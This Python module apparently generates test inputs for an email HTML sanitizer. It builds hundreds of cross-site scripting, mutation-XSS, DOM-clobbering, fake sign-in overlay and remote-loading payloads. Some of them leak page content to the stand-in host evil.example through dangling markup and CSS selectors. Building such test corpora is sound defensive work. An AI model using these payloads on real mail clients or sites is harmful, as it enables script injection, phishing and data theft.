"""HTML that means harm: families of attacks on programs that show mail, each in many forms.

What runs calls `canary`; what loads or sends asks `evil.example` for something. Every sample says `Harmless words`
somewhere, so that it can be seen that it was shown at all.
"""

from __future__ import annotations

import html
import random
from collections.abc import Iterator
from itertools import product

RUN = "canary(1)"
EVIL = "https://evil.example"
_WORDS = "<p>Harmless words</p>"

_EVENTS = (
    "onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerenter onanimationstart onanimationend "
    "ontransitionend ontoggle onbeforetoggle onscroll onscrollend onwheel oncopy onpaste ondrag oninput onchange onsubmit "
    "onreset oninvalid onkeydown onauxclick oncontextmenu oncuechange onbegin onend onrepeat onhashchange onmessage onoffline "
    "onpagehide onpageshow onpopstate onresize onstorage onunload onbeforeunload onsecuritypolicyviolation onshow onstart "
    "onfinish onbounce onfilterchange onpropertychange onreadystatechange oncontentvisibilityautostatechange onfocusin"
).split()
_CARRIERS = (
    "<img src=x {}>",
    "<body {}>",
    "<svg {}></svg>",
    "<details open {}><summary>x</summary></details>",
    "<input autofocus {}>",
    "<video src=x {}></video>",
    "<marquee {}>x</marquee>",
    "<div tabindex=1 style='animation-name:x;transition:all 1s' {}>x</div>",
    "<iframe {}></iframe>",
    "<a href=https://x.example {}>x</a>",
)
_SCRIPTED = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java\rscript:{}",
    "javascript\t:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{}",
    "&#0000106;avascript:{}",
    "javascript://%0a{}",
    "javascript:/*--></title></style></textarea></script>*/{}",
    "vbscript:{}",
    "livescript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>{}</script></html>",
    "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
    "blob:https://x.example/{}",
    "filesystem:https://x.example/{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "jar:javascript:{}",
    "about:blank#{}",
    "mhtml:javascript:{}",
)
_PLACES = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input type=submit></form>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<base href="{}"><a href=x>x</a>',
    '<link rel=stylesheet href="{}">',
    '<table background="{}"><tr><td background="{}">x</td></tr></table>',
    '<meta http-equiv=refresh content="0;url={}">',
)
_LOADING = (
    "<img src={url}>",
    "<img srcset='{url} 1x'>",
    "<picture><source srcset='{url}'><img></picture>",
    "<video poster={url}></video>",
    "<video src={url} autoplay muted></video>",
    "<audio src={url} autoplay></audio>",
    "<video><track default src={url}></video>",
    "<input type=image src={url}>",
    "<body background={url}>",
    "<table background={url}><tr><td>x</table>",
    "<link rel=stylesheet href={url}>",
    "<link rel=icon href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=preload as=image href={url}>",
    "<link rel=dns-prefetch href={url}>",
    "<link rel=preconnect href={url}>",
    "<link rel=prerender href={url}>",
    "<link rel=modulepreload href={url}>",
    "<link rel=manifest href={url}>",
    "<script src={url}></script>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{url}"]}}]}}</script>',
    "<iframe src={url}></iframe>",
    "<frameset><frame src={url}></frameset>",
    "<portal src={url}></portal>",
    "<fencedframe src={url}></fencedframe>",
    "<embed src={url}>",
    "<object data={url}></object>",
    "<applet code=x codebase={url}></applet>",
    "<svg><image href={url} /></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><feImage href={url} /></svg>",
    "<svg><style>@import '{url}';</style></svg>",
    "<math><mglyph src={url}></mglyph></math>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0,{url}'>",
    "<meta http-equiv=Link content='<{url}>; rel=stylesheet'>",
    "<meta http-equiv=set-cookie content='x=1'><meta http-equiv=content-security-policy content='report-uri {url}'>",
    "<style>@import url({url});</style>",
    "<style>@import '{url}' screen;</style>",
    "<style>body{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:x;src:url({url})}} *{{font-family:x}}</style>",
    "<style>@namespace url({url});</style>",
    "<style>p::after{{content:url({url})}}</style>",
    '<style>a[href^="h"]{{background:url({url}?h)}}</style><a href=http://x.example>x</a>',
    "<style>input[value^=a]{{background:url({url}?a)}}</style><input value=abc>",
    "<p style='background:url({url})'>x</p>",
    "<p style=\"background-image:url('{url}')\">x</p>",
    "<p style='background:u\\72l({url})'>x</p>",
    "<p style='background:\\75 rl({url})'>x</p>",
    "<p style='background:/**/url/**/({url})'>x</p>",
    "<p style='background-color:url({url})'>x</p>",
    "<p style='color:red;background:image-set(\"{url}\" 1x)'>x</p>",
    "<p style='background:-webkit-image-set(url({url}) 1x)'>x</p>",
    "<p style='background:cross-fade(url({url}),red,50%)'>x</p>",
    "<p style='list-style-image:url({url})'>x</p>",
    "<ul style='list-style:url({url})'><li>x</ul>",
    "<p style='border-image:url({url}) 30'>x</p>",
    "<p style='cursor:url({url}),auto'>x</p>",
    "<p style='mask:url({url}#m);filter:url({url}#f);clip-path:url({url}#c)'>x</p>",
    "<p style='shape-outside:url({url});float:left'>x</p>",
    "<p style='content:url({url})'>x</p>",
    "<p style='offset-path:url({url})'>x</p>",
    "<p style='font-family:url({url})'>x</p>",
    "<p style='width:attr(data-x type(<url>));--x:url({url});background:var(--x)'>x</p>",
    "<p style='color:red;}}@import \"{url}\";'>x</p>",
    "<p style='behavior:url({url});-moz-binding:url({url}#x)'>x</p>",
    "<a href=https://x.example ping={url}>x</a>",
    "<a href=https://x.example attributionsrc={url}>x</a>",
    "<img src=x attributionsrc={url}>",
    "<img src=x longdesc={url} usemap=#m><map name=m><area href={url} ping={url}></map>",
    "<blockquote cite={url}>x</blockquote><q cite={url}>x</q><del cite={url}>x</del>",
    "<html manifest={url}>",
    "<img lowsrc={url} dynsrc={url}>",
    "<bgsound src={url}>",
    "<layer src={url}></layer><ilayer src={url}></ilayer>",
    "<xml src={url} id=x></xml><span datasrc=#x datafld=y dataformatas=html>x</span>",
    "<?xml-stylesheet href='{url}'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '{url}'>]><p>&y;</p>",
    "<v:shape style='behavior:url(#default#VML)'><v:imagedata src={url} /></v:shape>",
    "<!--[if gte mso 9]><v:background fill=t><v:fill src={url} /></v:background><![endif]-->",
    "<!--[if !mso]><!--><img src={url}><!--<![endif]-->",
)
_ADDRESSES = (f"{EVIL}/x", "//evil.example/x", "http:evil.example/x", "https:\\\\evil.example\\x")
#: Where a second reading of the same text differs from the first (mutation XSS), each with `{}` for what runs.
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<svg><p><style><g title='</style><img src onerror={}>'>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg><title><style><img src=x onerror={}></style></title></svg>",
    "<svg><desc><noscript><img src=x onerror={}></noscript></desc></svg>",
    "<svg><foreignobject><p><style><!--</style><img src=x onerror={}>--></style></foreignobject></svg>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src onerror={}>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={}></style></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><p><style></math><img src onerror={}>",
    "<math><mi><table><mi><style><!--</style><img title='--><img src onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<noscript><style></noscript><img src=x onerror={}>",
    "<noembed><img title='</noembed><img src=x onerror={}>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror={}>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<iframe><p title='</iframe><img src=x onerror={}>'>",
    "<textarea><p title='</textarea><img src=x onerror={}>'>",
    "<title><p title='</title><img src=x onerror={}>'>",
    "<style><p title='</style><img src=x onerror={}>'>",
    "<script><p title='</script><img src=x onerror={}>'>",
    "<plaintext><p title='</plaintext><img src=x onerror={}>'>",
    "<template><p title='</template><img src=x onerror={}>'>",
    "<select><p title='</select><img src=x onerror={}>'>",
    "<select><template><style></select><img src onerror={}>",
    "<select><keygen><style></select><img src onerror={}>",
    "<table><a href=https://x.example><table><a><img src onerror={}>",
    "<table><td><svg><td><style></table><img src onerror={}>",
    "<p><svg><p><img src=x onerror={}>",
    "<svg><b><style><img src=x onerror={}>",
    "<svg><br><style><a title='</style><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<!---><img src=x onerror={}>-->",
    "<!--!><img src=x onerror={}>--!>",
    "<!-- --!><img src=x onerror={}>",
    "<!-x><img src=x onerror={}>",
    "<?x ><img src=x onerror={}>?>",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<svg><![CDATA[</svg><img src=x onerror={}>]]>",
    "<svg><script>//<![CDATA[\n{}//]]></script></svg>",
    "</><img src=x onerror={}>",
    "</ x><img src=x onerror={}>",
    "<!><img src=x onerror={}>",
    "<a href='x`<img src=x onerror={}>`'>x</a>",
    "<img alt='``onerror={}'>",
    "<p id='\"><img src=x onerror={}>'>x</p>",
    '<p title="&quot;&gt;&lt;img src=x onerror={}&gt;">x</p>',
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<xss id=x tabindex=1 onfocus={}></xss>",
    "<isindex type=image src=1 onerror={}>",
    "<image src=x onerror={}>",
    "<svg><image href=x onerror={} /></svg>",
    "<math><mrow href=javascript:{}>x</mrow></math>",
    "<svg><set attributeName=onload to={} /></svg>",
    "<svg><animate attributeName=href values='javascript:{}' /><a id=x><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{}</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></iframe></foreignObject></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror={}&gt;' sandbox='allow-scripts allow-same-origin'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='data:text/html,<script>{}</script>'>",
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script/x>{}</script>",
    "<script\x0c>{}</script>",
    "<script\x00>{}</script>",
    "<\x00script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script type=module>{}</script>",
    "<script nonce=x>{}</script>",
    "<script language=vbscript>{}</script>",
    "<b <script>{}</script>0",
    "<<script>{}//<</script>",
    "<script>{}",
    "<script src=data:text/javascript,{}></script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:text/javascript,{} /></svg>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>{}</x:script>",
    "<img src=x onerror=\n{}>",
    "<img src=x\x0conerror\x0c=\x0c{}>",
    "<img src=x o\x00nerror={}>",
    "<img/src/onerror={}>",
    "<img ='x' src=x onerror={}>",
    '<img """><script>{}</script>">',
    "<img src='x'onerror={}>",
    "<img src=x:x onerror={}>",
    "<img src=x onerror=&#99;anary&lpar;1&rpar;>{}",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u00bcscript\u00be{}\u00bc/script\u00be",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<ſcript>{}</ſcript>",
    "<img src=x \u2028onerror={}>",
)
_CLOBBERING = (
    "<form id=document><input name=cookie></form>",
    "<form name=body><input name=attributes><input name=firstChild></form>",
    "<a id=location href=https://evil.example>x</a><a id=top></a><a id=parent></a>",
    "<img name=htmx><img id=csrfToken name=csrfmiddlewaretoken><a id=main></a>",
    "<form id=x><input name=action><input name=submit></form><form id=x></form>",
    "<p id=__proto__></p><p id=constructor></p><a name=self id=window></a>",
    "<iframe name=self srcdoc='<a id=x>'></iframe><iframe name=top></iframe>",
    "<base target=_top><a href=https://evil.example>x</a>",
    "<a href=https://evil.example target=_top>x</a><a href=https://evil.example target=_parent>x</a>",
    "<a href=https://evil.example rel=opener target=_blank>x</a><a href=#main>x</a><a href=/settings/email/>x</a>",
    "<form target=_top action=https://evil.example><button formaction=javascript:canary(1) autofocus>Sign in</button></form>",
    "<form action=/accounts/logout/ method=post id=f></form><button form=f formtarget=_top>x</button>",
    "<input form=search name=q><label for=main>x</label><output for=main></output>",
    "<div hx-get=/unread/ hx-trigger=load hx-target=body hx-swap=outerHTML data-hx-get=/unread/>x</div>",
    "<div data-opens=main data-confirm=x data-autosubmit data-copy=#main popover popovertarget=navigation>x</div>",
    "<dialog open>x</dialog><button popovertarget=navigation commandfor=main command=show-modal>x</button>",
    "<div contenteditable autofocus accesskey=s>x</div><menu><command onclick=canary(1)></menu>",
)
_ESCAPING = (
    "</body></html><script>canary(1)</script>",
    "</p></div></article></main></body><h1>CRM Mail</h1>",
    "</iframe><script>canary(1)</script>",
    '"></iframe><script>canary(1)</script>',
    "</style></title><script>canary(1)</script>",
    "</details></summary><script>canary(1)</script>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Your session is over. Sign in:</div>",
    "<div style='position:absolute;top:-500px;left:-500px;width:5000px;height:5000px'>x</div>",
    "<div style='position:sticky;top:0'>x</div><div style='transform:translate(-900px,-900px)'>x</div>",
    "<div style='margin-top:-9999px;margin-left:-9999px'>x</div>",
    "<style>html,body{position:fixed;inset:0}iframe{display:none}</style>",
    "<div style='width:99999999px;height:99999999px'>x</div>",
    "<p style='font-size:100000px;line-height:100000px;letter-spacing:100000px'>x</p>",
    "<p style='color:#fff;background-color:#fff;font-size:0'>x</p>",
    "<div style='display:contents;visibility:hidden;opacity:0;pointer-events:all'>x</div>",
    "<div class='message-view toast banner modal' id=main role=alert aria-live=assertive>x</div>",
    "<plaintext>",
    "<frameset rows=*><frame src=https://evil.example></frameset>",
    "<img src='https://evil.example/?dangling=",
    '<img src="https://evil.example/?dangling=',
    "<meta http-equiv=refresh content='0;url=https://evil.example/?dangling=",
    "<a href='https://evil.example/?dangling=",
    "<form action='https://evil.example'><textarea name=all>",
    "<form action='https://evil.example'><option name=all>",
    "<base target='",
    "<link rel=stylesheet href='https://evil.example/?dangling=",
    "<table background='//evil.example/?dangling=",
    "<style>@import'//evil.example/?dangling=",
    '<p title="</p><script>canary(1)</script>',
    "<!-- <script>canary(1)</script>",
)


def _large() -> Iterator[str]:
    yield "<div>" * 500 + f"<img src=x onerror={RUN}>"
    yield "<b><i>" * 250 + f"<script>{RUN}</script>"
    yield "<table><tr><td>" * 150 + f"<img src=x onerror={RUN}>"
    yield "<div " + " ".join(f"a{number}=1" for number in range(20_000)) + f" onclick={RUN}>x</div>"
    yield f"<p title='{'A' * 100_000}' onmouseover={RUN}>x</p>"
    yield f"<p style='{'color:red;' * 5_000}background:url({EVIL}/x)'>x</p>"
    yield f"<a href='{' ' * 50_000}javascript:{RUN}'>x</a>"
    yield "<svg>" * 300 + f"<script>{RUN}</script>"
    yield "<math>" * 300 + f"<img src=x onerror={RUN}>"
    yield "&lt;" * 10_000 + f"<img src=x onerror={RUN}>"
    yield "<!--" * 5_000 + f"--><img src=x onerror={RUN}>"
    yield f"<img src=x onerror={RUN}>" * 2_000


def _mutated(samples: list[str], wanted: int) -> Iterator[str]:
    """Pieces of attacks put together at random, the same each time."""
    rng = random.Random(7)
    pieces = [
        "<table>",
        "<td>",
        "</p>",
        "<svg>",
        "</svg>",
        "<style>",
        "</style>",
        "<!--",
        "-->",
        "'",
        '"',
        ">",
        "<a href=x>",
    ]
    for _ in range(wanted):
        first, second = rng.sample(samples, 2)
        cut = rng.randrange(1, min(len(first), 300))
        yield rng.choice(
            [
                first[:cut] + rng.choice(pieces) + second,
                first + rng.choice(pieces) + second[: len(second) // 2],
                rng.choice(pieces) + first + rng.choice(pieces) * 3,
                html.escape(first[:cut], quote=False) + first[cut:] + second,
                first.upper()[:cut] + first[cut:] + second,
                f"<div title='{first}'>{second}</div>",
                f"<svg><style>{first}</style>{second}</svg>",
                f"<!--{first}-->{second}",
            ]
        )


def _all() -> Iterator[str]:
    for number, event in enumerate(_EVENTS):
        for offset in (0, 3, 7):
            yield _CARRIERS[(number + offset) % len(_CARRIERS)].format(f"{event}={RUN}")
    for place, (number, scheme) in product(_PLACES[:4], enumerate(_SCRIPTED)):
        address = scheme.format(RUN)
        yield place.replace(
            "{}", html.escape(address) if number % 2 and "&" not in address else address.replace('"', "'")
        )
    for number, place in enumerate(_PLACES[4:]):
        for scheme in _SCRIPTED[number::9]:
            yield place.replace("{}", scheme.format(RUN).replace('"', "'"))
    for number, loading in enumerate(_LOADING):
        yield loading.format(url=_ADDRESSES[0])
        yield loading.format(url=_ADDRESSES[1 + number % 3])
    for mutating in _MUTATING:
        yield mutating.format(RUN)
    yield from _CLOBBERING
    yield from _ESCAPING


_BASE = list(dict.fromkeys(_all()))
#: Every sample, the harmless words before it: what follows an attack may be swallowed by it.
SAMPLES = [_WORDS + sample for sample in dict.fromkeys([*_BASE, *_large(), *_mutated(_BASE, 120)])]
